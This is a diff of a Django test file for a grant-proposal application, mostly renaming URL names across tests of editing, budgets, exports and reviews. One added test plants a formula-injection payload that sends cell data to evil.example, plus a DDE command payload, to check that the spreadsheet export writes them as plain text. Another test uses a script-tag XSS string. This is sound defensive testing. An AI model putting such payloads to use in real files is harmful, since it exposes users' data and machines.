@@ -54,12 +54,12 @@ def flashed(response):
 
 class TestWritingTogether:
     def test_saving_without_a_change_makes_no_version(self, as_user, proposal, author):
-        response = as_user(author).post(url("edit", proposal.pk), form_data(proposal))
+        response = as_user(author).post(url("proposal_update", proposal.pk), form_data(proposal))
         assert flashed(response) == ["Nothing had changed, so no new version was made."]
         assert Proposal.objects.get(pk=proposal.pk).version == 1
 
     def test_a_save_makes_a_version(self, as_user, proposal, author):
-        response = as_user(author).post(url("edit", proposal.pk), form_data(proposal, summary="Revised."))
+        response = as_user(author).post(url("proposal_update", proposal.pk), form_data(proposal, summary="Revised."))
         assert response.status_code == 302
         assert flashed(response) == ["Saved as version 2."]
         assert Proposal.objects.get(pk=proposal.pk).summary == "Revised."
@@ -67,9 +67,9 @@ class TestWritingTogether:
     def test_a_stale_save_shows_both_texts_and_the_form_keeps_yours(self, client, proposal, author, co_author):
         stale = form_data(proposal)
         client.force_login(co_author)
-        client.post(url("edit", proposal.pk), form_data(proposal, summary="Norah's summary."))
+        client.post(url("proposal_update", proposal.pk), form_data(proposal, summary="Norah's summary."))
         client.force_login(author)
-        response = client.post(url("edit", proposal.pk), stale | {"summary": "Srey's <b>summary</b>."})
+        response = client.post(url("proposal_update", proposal.pk), stale | {"summary": "Srey's <b>summary</b>."})
         assert response.status_code == 409
         html = response.content.decode()
         assert "Someone saved before you" in html
@@ -81,7 +81,7 @@ class TestWritingTogether:
         assert Proposal.objects.get(pk=proposal.pk).summary == "Norah's summary."
         # Resolved: both summaries in one, saved on top of Norah's version.
         merged = stale | {"version": 2, "summary": "Norah's summary. Srey's summary."}
-        response = client.post(url("edit", proposal.pk), merged)
+        response = client.post(url("proposal_update", proposal.pk), merged)
         assert response.status_code == 302
         saved = Proposal.objects.get(pk=proposal.pk)
         assert (saved.summary, saved.version) == ("Norah's summary. Srey's summary.", 3)
@@ -89,7 +89,7 @@ class TestWritingTogether:
     def test_an_edit_after_submission_is_refused_and_keeps_what_was_typed(self, as_user, ready_proposal, author):
         stale = form_data(ready_proposal, summary="One more idea I typed.")
         services.proposal_submit(proposal=ready_proposal, by=author)
-        response = as_user(author).post(url("edit", ready_proposal.pk), stale)
+        response = as_user(author).post(url("proposal_update", ready_proposal.pk), stale)
         assert response.status_code == 200
         html = response.content.decode()
         assert "can no longer be edited." in html
@@ -98,7 +98,9 @@ class TestWritingTogether:
 
     def test_versions_compare_word_by_word_and_escape_the_text(self, as_user, proposal, author):
         client = as_user(author)
-        client.post(url("edit", proposal.pk), form_data(proposal, summary="A <script>alert(1)</script> day."))
+        client.post(
+            url("proposal_update", proposal.pk), form_data(proposal, summary="A <script>alert(1)</script> day.")
+        )
         response = client.get(url("version_compare", proposal.pk) + "?from=1&to=2")
         html = response.content.decode()
         assert "<ins>&lt;script&gt;alert(1)&lt;/script&gt; day.</ins>" in html
@@ -137,7 +139,7 @@ class TestBudgetForms:
         ],
     )
     def test_bad_lines_say_what_is_wrong_and_keep_what_was_typed(self, as_user, proposal, author, changes, message):
-        response = as_user(author).post(url("budget", proposal.pk), line_data(**changes))
+        response = as_user(author).post(url("budget_detail", proposal.pk), line_data(**changes))
         html = response.content.decode()
         assert response.status_code == 200
         assert message in html
@@ -146,7 +148,7 @@ class TestBudgetForms:
 
     def test_a_line_typed_after_submission_is_refused_and_kept(self, as_user, ready_proposal, author):
         services.proposal_submit(proposal=ready_proposal, by=author)
-        response = as_user(author).post(url("budget", ready_proposal.pk), line_data(rate="4100"))
+        response = as_user(author).post(url("budget_detail", ready_proposal.pk), line_data(rate="4100"))
         html = response.content.decode()
         assert response.status_code == 200
         assert "it can no longer be edited." in html
@@ -154,25 +156,25 @@ class TestBudgetForms:
         assert ready_proposal.budget_lines.count() == 2
 
     def test_members_who_are_not_co_authors_cannot_add_lines(self, as_user, proposal, cop_member):
-        assert as_user(cop_member).post(url("budget", proposal.pk), line_data(rate="4100")).status_code == 403
-        assert as_user(cop_member).post(url("activities", proposal.pk), {"title": "x"}).status_code == 403
+        assert as_user(cop_member).post(url("budget_detail", proposal.pk), line_data(rate="4100")).status_code == 403
+        assert as_user(cop_member).post(url("activity_list", proposal.pk), {"title": "x"}).status_code == 403
         assert not BudgetLine.objects.exists()
 
     def test_a_riel_line_with_its_rate_is_converted(self, as_user, proposal, author):
-        response = as_user(author).post(url("budget", proposal.pk), line_data(rate="4100"))
+        response = as_user(author).post(url("budget_detail", proposal.pk), line_data(rate="4100"))
         assert response.status_code == 302
-        page = as_user(author).get(url("budget", proposal.pk))
+        page = as_user(author).get(url("budget_detail", proposal.pk))
         assert page.context["budget"].overall.requested == Decimal("600.00")
         assert "1 USD = 4100 KHR" in page.content.decode()
 
     def test_the_budget_page_warns_when_over_the_ceiling(self, as_user, proposal, author):
         BudgetLineFactory(proposal=proposal, quantity=Decimal("2"), unit_cost=Decimal("2600"))
-        html = as_user(author).get(url("budget", proposal.pk)).content.decode()
+        html = as_user(author).get(url("budget_detail", proposal.pk)).content.decode()
         assert "200.00 USD over the ceiling." in html
 
     def test_submitting_over_the_ceiling_shows_by_how_much(self, as_user, ready_proposal, author):
         BudgetLineFactory(proposal=ready_proposal, quantity=Decimal("1"), unit_cost=Decimal("4400"))
-        response = as_user(author).post(url("submit", ready_proposal.pk), follow=True)
+        response = as_user(author).post(url("proposal_submit", ready_proposal.pk), follow=True)
         assert "The budget asks for 5,050.00 USD, 50.00 USD over the call's ceiling of 5,000.00 USD." in (
             unescape(response.content.decode())
         )
@@ -181,7 +183,7 @@ class TestBudgetForms:
 
 class TestExports:
     def test_csv_has_every_line_and_the_totals(self, as_user, ready_proposal, author):
-        response = as_user(author).get(url("budget_csv", ready_proposal.pk))
+        response = as_user(author).get(url("budget_export_csv", ready_proposal.pk))
         assert response["Content-Disposition"] == f'attachment; filename="budget-cop-ip-{ready_proposal.pk}.csv"'
         rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
         assert rows[0][:3] == ["Category", "Activity", "Description"]
@@ -204,7 +206,7 @@ class TestExports:
         assert ["Ceiling of the call", "", "", "5000.00"] in rows
 
     def test_the_spreadsheet_opens_with_lines_and_totals(self, as_user, ready_proposal, author):
-        response = as_user(author).get(url("budget_xlsx", ready_proposal.pk))
+        response = as_user(author).get(url("budget_export_xlsx", ready_proposal.pk))
         workbook = load_workbook(io.BytesIO(response.content))
         assert workbook.sheetnames == ["Budget lines", "Totals"]
         lines = list(workbook["Budget lines"].iter_rows(values_only=True))
@@ -212,16 +214,28 @@ class TestExports:
         assert lines[2][11] == 500
         assert ("Overall", 650, 0, 650) in list(workbook["Totals"].iter_rows(values_only=True))
 
+    def test_the_spreadsheet_writes_formula_like_text_as_text(self, as_user, ready_proposal, author):
+        hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+        ready_proposal.budget_lines.filter(description="Hall for the performance").update(description=hostile)
+        ready_proposal.activities.update(title="@SUM(1+1)*cmd|' /C calc'!A0")
+        response = as_user(author).get(url("budget_export_xlsx", ready_proposal.pk))
+        workbook = load_workbook(io.BytesIO(response.content))
+        written = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value is not None]
+        assert [cell.coordinate for cell in written if cell.data_type == "f"] == []
+        lines = list(workbook["Budget lines"].iter_rows(values_only=True))
+        assert lines[1][2] == hostile
+        assert lines[1][1] == "@SUM(1+1)*cmd|' /C calc'!A0"
+
     def test_the_print_view_has_no_buttons(self, as_user, ready_proposal, author):
         html = as_user(author).get(url("budget_print", ready_proposal.pk)).content.decode()
         assert '<main id="main" tabindex="-1" class="print-view">' in html
-        assert url("line_delete", ready_proposal.pk, ready_proposal.budget_lines.first().pk) not in html
+        assert url("budget_line_delete", ready_proposal.pk, ready_proposal.budget_lines.first().pk) not in html
 
 
 class TestReviewPages:
     def test_assigning_an_author_is_refused_with_a_message(self, as_user, ready_proposal, author, coordinator):
         services.proposal_submit(proposal=ready_proposal, by=author)
-        response = as_user(coordinator).post(url("reviewers", ready_proposal.pk), {"reviewer": author.pk})
+        response = as_user(coordinator).post(url("reviewer_list", ready_proposal.pk), {"reviewer": author.pk})
         assert "Srey Leak is a co-author of this proposal and cannot review it." in response.content.decode()
         assert not ReviewAssignment.objects.exists()
 
@@ -233,13 +247,13 @@ class TestReviewPages:
         client.force_login(coordinator)
         with django_capture_on_commit_callbacks(execute=True):
             response = client.post(
-                url("decide", ready_proposal.pk), {"decision": "revise", "message": "Add a reflection."}
+                url("proposal_decide", ready_proposal.pk), {"decision": "revise", "message": "Add a reflection."}
             )
         assert response.status_code == 302
         assert Proposal.objects.get(pk=ready_proposal.pk).status == "revisions_requested"
         assert {m.to[0] for m in mail.outbox} >= {"srey@cipl.example", "norah@llc.example"}
         client.force_login(author)
-        html = client.get(url("detail", ready_proposal.pk)).content.decode()
+        html = client.get(url("proposal_detail", ready_proposal.pk)).content.decode()
         assert "Decision: Revisions requested" in html and "Add a reflection." in html
 
 
@@ -269,7 +283,7 @@ class TestSpendingPages:
             "Overspent: Exhibition panels has spent 620.00 USD of 500.00 USD approved.",
             "Overspent: Materials and supplies has spent 620.00 USD of 500.00 USD approved.",
         ]
-        html = as_user(author).get(url("spending", approved.pk)).content.decode()
+        html = as_user(author).get(url("expense_list", approved.pk)).content.decode()
         assert "620.00 spent of 500.00" in html and "bar-over" in html
 
     def test_a_receipt_must_be_a_pdf_or_an_image(self, as_user, approved, author):
@@ -334,7 +348,11 @@ class TestQueryCounts:
         activity = KeyActivityFactory(proposal=proposal)
         BudgetLineFactory.create_batch(2, proposal=proposal, activity=activity)
         client = as_user(author)
-        pages = [url("detail", proposal.pk), url("budget", proposal.pk), url("versions", proposal.pk)]
+        pages = [
+            url("proposal_detail", proposal.pk),
+            url("budget_detail", proposal.pk),
+            url("version_list", proposal.pk),
+        ]
         few = {page: queries_for(client, page) for page in pages}
         activities = KeyActivityFactory.create_batch(5, proposal=proposal)
         for index in range(198):
@@ -346,24 +364,24 @@ class TestQueryCounts:
             with django_assert_num_queries(count):
                 response = client.get(page)
         assert len(response.context["versions"]) == 20
-        assert len(client.get(url("detail", proposal.pk)).context["budget"].lines) == 200
+        assert len(client.get(url("proposal_detail", proposal.pk)).context["budget"].lines) == 200
 
     def test_the_list_does_not_grow_with_proposals(self, as_user, call, cop_ip, author, django_assert_num_queries):
         ProposalFactory(call=call, community=cop_ip, authors=[author])
         client = as_user(author)
-        few = queries_for(client, url("list"))
+        few = queries_for(client, url("proposal_list"))
         for _ in range(15):
             ProposalFactory(call=call, community=cop_ip, authors=[author], status="approved")
         with django_assert_num_queries(few):
-            response = client.get(url("list"))
+            response = client.get(url("proposal_list"))
         assert response.context["page"].paginator.count == 16
 
     def test_the_spending_page_does_not_grow_with_expenses(self, as_user, author, django_assert_num_queries, proposal):
         Proposal.objects.filter(pk=proposal.pk).update(status="in_implementation")
         ExpenseFactory(line=BaselineLineFactory(proposal=proposal))
         client = as_user(author)
-        few = queries_for(client, url("spending", proposal.pk))
+        few = queries_for(client, url("expense_list", proposal.pk))
         for _ in range(30):
             ExpenseFactory(line=BaselineLineFactory(proposal=proposal))
         with django_assert_num_queries(few):
-            client.get(url("spending", proposal.pk))
+            client.get(url("expense_list", proposal.pk))
